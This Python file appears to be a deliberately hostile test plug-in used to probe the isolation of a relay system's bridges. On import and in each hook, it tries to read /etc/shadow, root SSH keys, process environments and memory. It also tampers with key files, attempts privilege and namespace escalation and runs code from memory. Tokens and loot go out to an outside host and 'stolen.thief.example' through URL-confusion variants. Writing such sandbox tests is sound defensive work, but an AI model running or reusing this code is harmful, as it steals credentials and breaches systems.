"""A plug-in written to steal. Installed, never imported by tests.

It knows beforehand where everything lies, and tries at every moment at which a stranger's code
runs: when its module is imported, when its settings are looked at, when it is made, prepares and
sends. What came of each try it gives out in its posts, to the one host that it may reach: "no" and
the class of an error, or "got" and what it got.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import gc
import json
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from pydantic import BaseModel, ConfigDict, model_validator

from relay.ports import Attempt, Health, Once, Part, Post, Posted, Unknown

KNOWN: dict[str, Any] = json.loads(Path(__file__).with_suffix(".json").read_text())
"""Where the node lies (``node``) and which of its files it wants (``files``); its own folder
(``own``) and host (``host``, ``tcp``); a process of the same user (``neighbour``); and what it
looks for in memory (``wanted``), written backwards, so that it does not find itself."""

NODE = Path(KNOWN["node"])
LIBC = ctypes.CDLL(None, use_errno=True)
LOOT: dict[str, str] = {}

Try = Callable[[], Any]


def tried(when: str, tries: Iterator[tuple[str, Try]]) -> None:
    """Every try, and what came of it."""
    for what, one in tries:
        try:
            got = one()
            LOOT[f"{when}: {what}"] = f"got {got!r}"[:200] if got else "no (nothing)"
        except BaseException as error:
            LOOT[f"{when}: {what}"] = f"no ({type(error).__name__})"


def called(result: int) -> int:
    """What a function of the C library gave, or the error that it had."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result + 1


# ---------------------------------------------------------------- files


def files() -> Iterator[tuple[str, Try]]:
    above = Path(f"/proc/{os.getppid()}")
    named = [NODE / one for one in KNOWN["files"]]
    named += map(Path, ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/resolv.conf"))
    named += map(Path, ("/root/.ssh/id_ed25519", "/root/.bash_history", "/proc/1/environ"))
    named += [above / one for one in ("environ", "cmdline", "maps", "mem", "status", "net/tcp")]
    named += [Path("/proc/self", one) for one in ("environ", "maps", "mem", "mountinfo")]
    for path in named:
        yield f"read {path}", path.read_bytes
    for path in (NODE, NODE / "keys", NODE / "data", NODE / "secrets", Path("/"), Path("/etc")):
        yield f"list {path}", lambda path=path: os.listdir(path)
    for path in ("/proc", "/proc/self/fd", "/tmp", "/var/tmp", "."):
        yield f"list {path}", lambda path=path: os.listdir(path)


def writes() -> Iterator[tuple[str, Try]]:
    own = Path(KNOWN["own"])
    for folder in (NODE, NODE / "public", NODE / "secrets", NODE / "data", NODE / "keys"):
        yield f"write into {folder}", lambda folder=folder: (folder / "x").write_text("x")
    for folder in (Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path(__file__).parent):
        yield f"write into {folder}", lambda folder=folder: (folder / "thief").write_text("x")
    for name in ("relay.toml", "secrets/thief", "secrets/other"):
        yield f"append to {name}", lambda name=name: (NODE / name).open("a").write("x")
    key = NODE / "keys/exit.key"
    yield "remove a key", lambda: os.remove(key) or "removed"
    yield "open a key to all", lambda: os.chmod(key, 0o666) or "opened"
    yield "open a library to all", lambda: opened_to_all(Path(os.__file__))
    yield "set the time of a key", lambda: os.utime(key, (1, 1)) or "set"
    yield "truncate a key", lambda: os.truncate(key, 0) or "truncated"
    yield "link a key", lambda: os.link(key, own / "linked") or "linked"
    yield "point at a key", lambda: os.symlink(key, own / "pointed") or "pointed"
    yield "move a key", lambda: os.rename(key, own / "moved") or "moved"
    yield "keep room on the disk", lambda: kept_room(own)
    yield "land in the page", lambda: landed(own)


def opened_to_all(library: Path) -> str:
    with library.open() as file:
        os.fchmod(file.fileno(), 0o666)
    return "opened"


def kept_room(own: Path) -> str:
    with (own / "landing").open("w") as file:
        if LIBC.fallocate(file.fileno(), 0, ctypes.c_long(0), ctypes.c_long(1 << 20)) < 0:
            raise OSError(ctypes.get_errno(), "fallocate")
    return "kept"


def landed(own: Path) -> str:
    (own / "landing").write_text("x")
    os.rename(own / "landing", NODE / "public/index.html")
    return "landed"


# ---------------------------------------------------------------- memory, and what was left open


def memory() -> Iterator[tuple[str, Try]]:
    yield "the environment", lambda: dict(os.environ)
    yield "the C environment", lambda: ctypes.c_char_p.in_dll(LIBC, "environ").value
    yield "objects", objects
    yield "frames", frames
    yield "pages", pages
    yield "descriptors", descriptors
    yield "arguments", lambda: [one for one in sys.argv + sys.orig_argv if str(NODE) in one]


def found(text: str) -> list[str]:
    return [name for name, one in KNOWN["wanted"].items() if one in text[::-1]]


def objects() -> list[str]:
    gc.unfreeze()
    tables = [one for one in gc.get_objects() if isinstance(one, dict)]
    return found(" ".join(str(one) for table in tables for one in list(table.values())
                          if isinstance(one, str | bytes)))  # fmt: skip


def frames() -> list[str]:
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen += [str(one) for one in frame.f_locals.values() if isinstance(one, str | bytes)]
        frame = frame.f_back  # type: ignore[assignment]
    return found(" ".join(seen))


def pages() -> list[str]:
    """What lies near the objects of this process, read in a way that survives a hole (EFAULT)."""
    read, write = os.pipe()
    here, got = id(object()) & ~0xFFF, bytearray()
    for at in range(here - (24 << 20), here + (24 << 20), 4096):
        if LIBC.write(write, ctypes.c_void_p(at), 4096) == 4096:
            got += os.read(read, 4096)
    os.close(read)
    os.close(write)
    got.reverse()
    return [name for name, one in KNOWN["wanted"].items() if one.encode() in got]


def descriptors() -> list[str]:
    harmless = {stat.S_IFIFO: "pipe", stat.S_IFSOCK: "socket"}
    odd = []
    for fd in range(256):
        with contextlib.suppress(OSError):
            about = os.fstat(fd)
            kind = stat.S_IFMT(about.st_mode)
            null = kind == stat.S_IFCHR and about.st_rdev == os.makedev(1, 3)
            if kind and kind not in harmless and not null:
                odd.append(f"{fd}: {kind:o}")
    return odd


# ---------------------------------------------------------------- others


def others() -> Iterator[tuple[str, Try]]:
    above = os.getppid()
    for name, pid in (("the outlet", above), ("a neighbour", KNOWN["neighbour"])):
        yield f"signal {name}", lambda pid=pid: os.kill(pid, 0) or "could"
        yield f"signal {name} by a pipe", lambda pid=pid: signalled(pid)
        yield f"trace {name}", lambda pid=pid: called(LIBC.ptrace(16, pid, 0, 0))
        yield f"look into {name}", lambda pid=pid: looked_into(pid)
        yield f"hold {name}", lambda pid=pid: os.pidfd_open(pid) + 1
        yield f"limit {name}", lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE)
        yield f"hold up {name}", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19) or "did"
        yield f"clock {name}", lambda pid=pid: time.clock_gettime(~pid << 3 | 2)
        yield f"slow {name}", lambda pid=pid: os.sched_setaffinity(pid, {0}) or "slowed"


def signalled(pid: int) -> None:
    """By a pipe that belongs to somebody else (F_SETOWN, F_SETSIG); whether it came, he shows."""
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, pid)
    fcntl.fcntl(read, 10, signal.SIGTERM)
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write, b"x")
    os.close(read)
    os.close(write)


def looked_into(pid: int) -> int:
    room = ctypes.create_string_buffer(64)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(room), 64)
    there = (ctypes.c_size_t * 2)(id(object()), 64)
    return called(LIBC.process_vm_readv(pid, here, 1, there, 1, 0))


def rights() -> Iterator[tuple[str, Try]]:
    for name in ("RLIMIT_NOFILE", "RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_CORE", "RLIMIT_FSIZE"):
        yield f"raise {name}", lambda name=name: raised(getattr(resource, name))
    yield "be root", lambda: os.setresuid(0, 0, 0) or "set"
    yield "be somebody", lambda: os.setresuid(12345, 12345, 12345) or "set"
    yield "outlive the outlet", lambda: called(LIBC.prctl(1, 0, 0, 0, 0))
    yield "be traceable", lambda: called(LIBC.prctl(4, 1, 0, 0, 0))
    yield "change the root", lambda: os.chroot("/") or "changed"
    yield "a namespace", lambda: called(LIBC.unshare(0x10000000))
    yield "a mount", lambda: called(LIBC.mount(b"/", b"/mnt", b"none", 4096, 0))
    for name, number in SYSTEM_CALLS.items() if os.uname().machine == "x86_64" else ():
        room = ctypes.create_string_buffer(256)
        yield name, lambda number=number, room=room: called(LIBC.syscall(number, room, 0, 0, 0, 0))


SYSTEM_CALLS = {
    "shmget": 29, "msgget": 68, "mq_open": 240, "add_key": 248, "keyctl": 250, "inotify": 253,
    "perf_event_open": 298, "fanotify": 300, "name_to_handle_at": 303, "open_by_handle_at": 304,
    "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425, "open_tree": 428, "fsopen": 430,
}  # fmt: skip
"""By their numbers on this processor (x86-64)."""


def raised(limit: int) -> str:
    hard = resource.getrlimit(limit)[1]
    resource.setrlimit(limit, (hard + 1, hard + 1))
    return "raised"


def programs() -> Iterator[tuple[str, Try]]:
    yield "a copy", copied
    yield "a program", lambda: subprocess.run(["/bin/true"], check=True) and "ran"
    yield "a program, spawned", lambda: os.posix_spawn("/bin/true", ["true"], {})
    yield "a program in place of this", lambda: os.execv("/bin/true", ["true"])
    yield "a program out of memory", executed_from_memory
    yield "a program of its own", executed_from_its_folder


def copied() -> str:
    if os.fork() == 0:
        os._exit(0)
    return "copied"


def executed_from_memory() -> None:
    with open(os.memfd_create("x"), "wb") as file:
        file.write(b"#!/bin/sh\n")
        file.flush()
        os.execve(file.fileno(), ["x"], {})


def executed_from_its_folder() -> None:
    own = Path(KNOWN["own"], "program")
    with open(os.open(own, os.O_WRONLY | os.O_CREAT, 0o700), "wb") as opened:
        opened.write(b"#!/bin/sh\nexit 0\n")
    os.execv(own, ["x"])


# ---------------------------------------------------------------- the network


def network() -> Iterator[tuple[str, Try]]:
    for name in dir(socket):
        if name.startswith("AF_"):
            for kind in ("SOCK_STREAM", "SOCK_DGRAM", "SOCK_RAW"):
                family, of = getattr(socket, name), getattr(socket, kind)
                yield f"{name} {kind}", lambda family=family, of=of: socket.socket(family, of)
    at = (KNOWN["host"], KNOWN["tcp"])
    yield "connect", lambda: socket.create_connection(at, 1)
    yield "a name", lambda: socket.getaddrinfo("stolen.thief.example", 80)
    yield "the control socket", lambda: unix(NODE / "data/control")
    yield "the socket of `relay send`", lambda: unix(NODE / "data/send")
    yield "a pair of datagrams", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    yield "the line, connected anew", reconnected


def unix(path: Path) -> str:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(str(path))
    return "connected"


def reconnected() -> str:
    """A socket of a pair that was allowed, made to lead elsewhere."""
    ours, _ = socket.socketpair()
    ours.connect(str(NODE / "data/control"))
    return "connected"


def everything(when: str) -> None:
    for tries in (files, writes, memory, others, rights, programs, network):
        tried(when, tries())


everything("at import")


# ---------------------------------------------------------------- as a bridge


class Thief:
    api = 1
    once = Once("none")
    at_once = 1

    class Settings(BaseModel):
        model_config = ConfigDict(extra="forbid")

        url: str
        token_file: str
        folder: str

        @model_validator(mode="before")
        @classmethod
        def steal(cls, given: Any) -> Any:
            everything("in the settings")
            return given

    @staticmethod
    def hosts(settings: Any) -> set[str]:
        return {"127.0.0.1"}

    def __init__(self, settings: Any, http: Any, clock: Any) -> None:
        self._settings = settings
        self._http = http
        self._token = Path(settings.token_file).read_text()
        everything("when it is made")

    async def prepare(self, post: Post) -> list[Part]:
        everything("in prepare")
        await self._abroad("in prepare", post.text)
        said = json.dumps({"text": post.text, "token": self._token, "loot": LOOT})
        return [Part("key", 0, 1, said.encode())]

    async def send(self, attempt: Attempt, keep: Any) -> Posted:
        everything("in send")
        await self._abroad("in send", json.loads(attempt.part.payload)["text"])
        await keep(json.dumps(LOOT).encode()[:4096])
        said = attempt.part.payload, json.dumps(LOOT).encode()
        for body in said:
            await self._http.request("POST", self._settings.url, body=body)
        return Posted("1")

    async def _abroad(self, when: str, text: str) -> None:
        """The text of a post, to a host of its own."""
        host, port = KNOWN["host"], KNOWN["tcp"]
        for url in (
            f"http://{host}:{port}/",
            f"http://127.0.0.1@{host}:{port}/",
            f"http://{host}:{port}#@127.0.0.1/",
            f"http://{host}:{port}\\@127.0.0.1/",
            f"http://127.0.0.1:{port}@{host}:{port}/",
            f"http://0x7f000002:{port}/",
            "http://stolen.thief.example/",
        ):
            LOOT[f"{when}: {url}"] = await asked(
                self._http.request("POST", url, headers={"x": text[:20]}, body=text.encode())
            )
        LOOT[f"{when}: connect"] = await asked(self._http.connect(host, port, tls="later"))

    async def find(self, attempt: Attempt) -> Unknown:
        return Unknown()

    async def check(self) -> Health:
        return Health("thief")


async def asked(asking: Any) -> str:
    try:
        return f"got {await asking!r}"
    except Exception as error:
        return f"no ({type(error).__name__})"
